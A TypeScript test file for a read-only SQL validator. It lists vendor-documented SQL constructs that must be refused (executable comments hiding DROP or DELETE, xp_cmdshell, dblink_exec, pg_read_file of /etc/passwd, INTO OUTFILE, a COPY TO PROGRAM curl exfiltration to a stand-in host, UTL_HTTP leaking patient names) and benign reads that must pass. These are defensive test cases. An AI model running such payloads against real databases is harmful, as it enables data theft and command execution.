// The read-only SQL check against the constructs each database vendor documents for running SQL or
// touching the server from inside a SELECT, one row per case with the page it comes from. Each must be
// refused with the reason named; the reads beside them (the same vendors' ordinary SELECTs) must pass.
// The check's general rules (strings, comments, readings, statements) are in saved-queries.test.ts.
import { describe, expect, it } from 'vitest';
import { forbiddenCalls, readOnlySqlProblem } from '#shared/domain/read-only-sql';

const MYSQL_COMMENTS = 'https://dev.mysql.com/doc/refman/8.4/en/comments.html';
const MARIADB_COMMENTS = 'https://mariadb.com/docs/server/reference/sql-statements/comment-syntax';
const MYSQL_HINTS = 'https://dev.mysql.com/doc/refman/8.4/en/optimizer-hints.html';
const ORACLE_COMMENTS = 'https://docs.oracle.com/en/database/oracle/oracle-database/23/sqlrf/Comments.html';
const MYSQL_SELECT_INTO = 'https://dev.mysql.com/doc/refman/8.4/en/select-into.html';
const MARIADB_DUMPFILE = 'https://mariadb.com/docs/server/reference/sql-statements/data-manipulation/selecting-data/select-into-dumpfile';
const MSSQL_SELECT_INTO = 'https://learn.microsoft.com/sql/t-sql/queries/select-into-clause-transact-sql';
const MSSQL_OPENQUERY = 'https://learn.microsoft.com/sql/t-sql/functions/openquery-transact-sql';
const MSSQL_OPENROWSET = 'https://learn.microsoft.com/sql/t-sql/functions/openrowset-transact-sql';
const MSSQL_OPENDATASOURCE = 'https://learn.microsoft.com/sql/t-sql/functions/opendatasource-transact-sql';
const MSSQL_EXECUTE = 'https://learn.microsoft.com/sql/t-sql/language-elements/execute-transact-sql';
const MSSQL_XP_CMDSHELL = 'https://learn.microsoft.com/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql';
const PG_DBLINK_EXEC = 'https://www.postgresql.org/docs/current/contrib-dblink-exec.html';
const PG_DBLINK = 'https://www.postgresql.org/docs/current/contrib-dblink-function.html';
const PG_COPY = 'https://www.postgresql.org/docs/current/sql-copy.html';
const PG_FILES = 'https://www.postgresql.org/docs/current/functions-admin.html#FUNCTIONS-ADMIN-GENFILE';
const PG_LO = 'https://www.postgresql.org/docs/current/lo-funcs.html';
const PG_XML = 'https://www.postgresql.org/docs/current/functions-xml.html';
const PG_TS_STAT = 'https://www.postgresql.org/docs/current/textsearch-features.html#TEXTSEARCH-STATISTICS';
const PG_IDENTIFIERS = 'https://www.postgresql.org/docs/current/sql-syntax-lexical.html#SQL-SYNTAX-IDENTIFIERS';
const MYSQL_LOAD_FILE = 'https://dev.mysql.com/doc/refman/8.4/en/string-functions.html#function_load-file';
const ORACLE_XMLGEN = 'https://docs.oracle.com/en/database/oracle/oracle-database/23/arpls/DBMS_XMLGEN.html';
const ORACLE_UTL_HTTP = 'https://docs.oracle.com/en/database/oracle/oracle-database/23/arpls/UTL_HTTP.html';
const FIREBIRD_EXECUTE = 'https://firebirdsql.org/file/documentation/chunk/en/refdocs/fblangref40/fblangref40-psql.html';

type Case = [what: string, sql: string, because: RegExp, source: string];

const EXECUTABLE = /executable comments/;
const HINTS = /optimizer hints/;

/** Refused, each with its reason. */
const refusedCases: Case[] = [
  // MySQL and MariaDB run the text of an executable comment; other databases skip it.
  ['MySQL executable comment', 'SELECT /*! STRAIGHT_JOIN */ col1 FROM t1', EXECUTABLE, MYSQL_COMMENTS],
  ['MySQL versioned executable comment', 'SELECT 1 /*!50110 ; DROP TABLE pacientes */', EXECUTABLE, MYSQL_COMMENTS],
  [
    'MySQL executable comment hiding a write',
    'SELECT 1 FROM t WHERE 1 = 1 /*! OR (SELECT 1 FROM t INTO OUTFILE "/tmp/x") */',
    EXECUTABLE,
    MYSQL_COMMENTS,
  ],
  ['MariaDB executable comment', 'SELECT 1 /*M! , (SELECT 1 FROM t FOR UPDATE) */', EXECUTABLE, MARIADB_COMMENTS],
  ['MariaDB versioned executable comment', 'SELECT 1 /*M!100100 ; DELETE FROM pacientes */', EXECUTABLE, MARIADB_COMMENTS],
  ['MariaDB executable comment, lower case', 'SELECT 1 /*m!100100 x */', EXECUTABLE, MARIADB_COMMENTS],
  ['executable comment after a leading comment', '/* c */ SELECT 1 /*!99999 x */', EXECUTABLE, MYSQL_COMMENTS],
  // Optimizer hints are comments some servers act on (MySQL's SET_VAR sets a session variable).
  ['MySQL SET_VAR hint', "SELECT /*+ SET_VAR(sql_mode = '') */ * FROM t", HINTS, MYSQL_HINTS],
  ['MySQL join hints', 'SELECT /*+ BKA(t1) NO_BKA(t2) */ * FROM t1 INNER JOIN t2 ON t1.a = t2.a', HINTS, MYSQL_HINTS],
  ['hint in a subquery block', 'SELECT * FROM t WHERE a IN (SELECT /*+ NO_ICP(t2) */ a FROM t2)', HINTS, MYSQL_HINTS],
  ['Oracle block hint', 'SELECT /*+ FULL(p) PARALLEL(p, 8) */ * FROM pacientes p', HINTS, ORACLE_COMMENTS],
  ['Oracle line hint', 'SELECT --+ INDEX(p pac_idx)\n * FROM pacientes p', HINTS, ORACLE_COMMENTS],
  // SELECT ... INTO writes a file, variables or a new table.
  ['MySQL INTO OUTFILE', "SELECT * FROM pacientes INTO OUTFILE '/tmp/pacientes.csv'", /INTO is not allowed/, MYSQL_SELECT_INTO],
  ['MySQL INTO DUMPFILE', "SELECT foto FROM pacientes WHERE id = 1 INTO DUMPFILE '/tmp/foto'", /INTO is not allowed/, MARIADB_DUMPFILE],
  ['MySQL INTO variables', 'SELECT id INTO @ultimo FROM pacientes ORDER BY id DESC LIMIT 1', /INTO is not allowed/, MYSQL_SELECT_INTO],
  ['MySQL INTO at the end', 'SELECT * FROM t1 FOR UPDATE INTO @myvar', /UPDATE is not allowed/, MYSQL_SELECT_INTO],
  ['OUTFILE alone', "SELECT * FROM t OUTFILE '/tmp/x'", /OUTFILE is not allowed/, MYSQL_SELECT_INTO],
  ['SQL Server SELECT INTO a new table', 'SELECT * INTO dbo.copia FROM dbo.pacientes', /INTO is not allowed/, MSSQL_SELECT_INTO],
  // SQL Server: a query string run elsewhere, dynamic SQL, extended procedures.
  ['OPENQUERY', "SELECT * FROM OPENQUERY(OracleSvr, 'SELECT name, id FROM joe.titles')", /OPENQUERY is not allowed/, MSSQL_OPENQUERY],
  [
    'OPENQUERY with a write',
    "SELECT * FROM OPENQUERY(srv, 'DELETE FROM pacientes; SELECT 1')",
    /OPENQUERY is not allowed/,
    MSSQL_OPENQUERY,
  ],
  [
    'OPENROWSET with a query',
    "SELECT a.* FROM OPENROWSET('MSOLEDBSQL', 'Server=Seattle1;Trusted_Connection=yes;', 'SELECT * FROM t') AS a",
    /OPENROWSET is not allowed/,
    MSSQL_OPENROWSET,
  ],
  ['OPENROWSET BULK', "SELECT * FROM OPENROWSET(BULK 'C:\\dados\\x.txt', SINGLE_CLOB) AS f", /OPENROWSET is not allowed/, MSSQL_OPENROWSET],
  [
    'OPENDATASOURCE',
    "SELECT * FROM OPENDATASOURCE('MSOLEDBSQL', 'Data Source=outro;Integrated Security=SSPI').db.dbo.pacientes",
    /OPENDATASOURCE is not allowed/,
    MSSQL_OPENDATASOURCE,
  ],
  ['EXEC of a string after a SELECT', "SELECT 1 EXEC ('DELETE FROM pacientes')", /EXEC is not allowed/, MSSQL_EXECUTE],
  ['EXECUTE of a string after a SELECT', "SELECT 1 EXECUTE('DROP TABLE t')", /EXECUTE is not allowed/, MSSQL_EXECUTE],
  ['EXEC first', "EXEC xp_cmdshell 'dir *.exe'", /starting with SELECT or WITH/, MSSQL_XP_CMDSHELL],
  ['xp_cmdshell after a SELECT', "SELECT 1 EXEC master..xp_cmdshell 'dir'", /EXEC is not allowed/, MSSQL_XP_CMDSHELL],
  [
    'an xp_ procedure in a SELECT',
    "SELECT * FROM t WHERE EXISTS (SELECT master.dbo.xp_dirtree('C:\\'))",
    /XP_DIRTREE is not allowed/,
    MSSQL_XP_CMDSHELL,
  ],
  ['a bracketed xp_ name', "SELECT [master].[dbo].[xp_cmdshell]('dir')", /XP_CMDSHELL is not allowed/, MSSQL_XP_CMDSHELL],
  // PostgreSQL: dblink, server programs and files, functions that run a query given as text.
  ['dblink_exec', "SELECT dblink_exec('dbname=outra', 'DELETE FROM pacientes')", /DBLINK_EXEC is not allowed/, PG_DBLINK_EXEC],
  [
    'dblink_exec on a named connection',
    "SELECT public.dblink_exec('myconn', 'insert into foo values(21)')",
    /DBLINK_EXEC is not allowed/,
    PG_DBLINK_EXEC,
  ],
  ['dblink', "SELECT * FROM dblink('dbname=outra', 'SELECT id FROM t') AS t(id int)", /DBLINK is not allowed/, PG_DBLINK],
  ['dblink as a quoted identifier', "SELECT \"dblink_exec\"('c', 'DELETE FROM t')", /DBLINK_EXEC is not allowed/, PG_IDENTIFIERS],
  ['dblink as a Unicode-escaped identifier', "SELECT U&\"\\0064blink_exec\"('c', 'DELETE FROM t')", /Unicode escapes/, PG_IDENTIFIERS],
  ['COPY TO PROGRAM', "COPY (SELECT * FROM pacientes) TO PROGRAM 'curl -d @- http://x'", /starting with SELECT or WITH/, PG_COPY],
  ['COPY after a CTE', "WITH a AS (SELECT 1) COPY t TO '/tmp/t'", /COPY is not allowed/, PG_COPY],
  ['pg_read_file', "SELECT pg_read_file('/etc/passwd')", /PG_READ_FILE is not allowed/, PG_FILES],
  [
    'pg_read_binary_file, qualified',
    "SELECT pg_catalog.pg_read_binary_file('postgresql.conf')",
    /PG_READ_BINARY_FILE is not allowed/,
    PG_FILES,
  ],
  ['pg_ls_dir', "SELECT * FROM pg_ls_dir('.')", /PG_LS_DIR is not allowed/, PG_FILES],
  ['lo_export', "SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/x')", /LO_EXPORT is not allowed/, PG_LO],
  ['lo_import', "SELECT lo_import('/etc/motd')", /LO_IMPORT is not allowed/, PG_LO],
  ['lo_unlink', 'SELECT lo_unlink(173454)', /LO_UNLINK is not allowed/, PG_LO],
  [
    'query_to_xml',
    "SELECT query_to_xml('SELECT dblink_exec(''c'', ''DELETE FROM t'')', true, false, '')",
    /QUERY_TO_XML is not allowed/,
    PG_XML,
  ],
  ['ts_stat', "SELECT * FROM ts_stat('SELECT vector FROM apod')", /TS_STAT is not allowed/, PG_TS_STAT],
  // MySQL/MariaDB and Oracle.
  ['LOAD_FILE', "SELECT LOAD_FILE('/etc/passwd')", /LOAD_FILE is not allowed/, MYSQL_LOAD_FILE],
  ['DBMS_XMLGEN', "SELECT DBMS_XMLGEN.GETXML('SELECT * FROM pacientes') FROM dual", /DBMS_XMLGEN is not allowed/, ORACLE_XMLGEN],
  ['UTL_HTTP', "SELECT UTL_HTTP.REQUEST('http://x/' || nome) FROM pacientes", /UTL_HTTP is not allowed/, ORACLE_UTL_HTTP],
  // Firebird's dynamic SQL.
  ['Firebird EXECUTE BLOCK', 'EXECUTE BLOCK AS BEGIN DELETE FROM t; END', /starting with SELECT or WITH/, FIREBIRD_EXECUTE],
];

/** Ordinary reads of the same vendors: accepted. */
const acceptedCases: [what: string, sql: string][] = [
  ['a plain comment starting with a space', 'SELECT 1 /* ! + not special */ FROM t'],
  ['a plain comment with a word after /*', 'SELECT 1 /*Mostly harmless!*/ FROM t'],
  ['a line comment', 'SELECT 1 -- + not a hint\nFROM t'],
  ['the markers inside strings', "SELECT '/*! x */', '/*+ y */', '--+ z' FROM t"],
  ['names inside strings', "SELECT * FROM log WHERE acao IN ('OPENQUERY', 'xp_cmdshell', 'dblink_exec', 'LOAD_FILE')"],
  ['Oracle LOB reads', 'SELECT DBMS_LOB.SUBSTR(texto, 4000, 1) FROM laudos'],
  ['columns that only contain the names', 'SELECT openquery_count, xp, load_files, dblinks, lo_id FROM t'],
  ['SQL Server bracketed columns', 'SELECT [Nome do Paciente], [Data] FROM [dbo].[Pacientes]'],
  ['PostgreSQL quoted columns', 'SELECT "Nome", "dataNascimento" FROM "Pacientes"'],
  ['an escaped string', "SELECT E'a\\tb', U FROM t WHERE u = 'x'"],
];

describe('read-only SQL check: what the vendors document', () => {
  it.each(refusedCases)('refuses %s', (_what, sql, because, source) => {
    // Act
    const problem = readOnlySqlProblem(sql);

    // Assess
    expect(problem, `${sql} (${source})`).toMatch(because);
  });

  it.each(acceptedCases)('accepts %s', (_what, sql) => {
    expect(readOnlySqlProblem(sql), sql).toBeUndefined();
  });

  it('refuses every listed call, as a word and as a quoted identifier, in any case', () => {
    for (const name of Object.keys(forbiddenCalls)) {
      for (const sql of [
        `SELECT ${name}(1)`,
        `SELECT x.${name.toLowerCase()}(1) FROM t x`,
        `SELECT "${name.toLowerCase()}"(1)`,
        `SELECT \`${name}\`(1)`,
      ]) {
        expect(readOnlySqlProblem(sql), sql).toMatch(new RegExp(`${name} is not allowed`));
      }
    }
  });
});
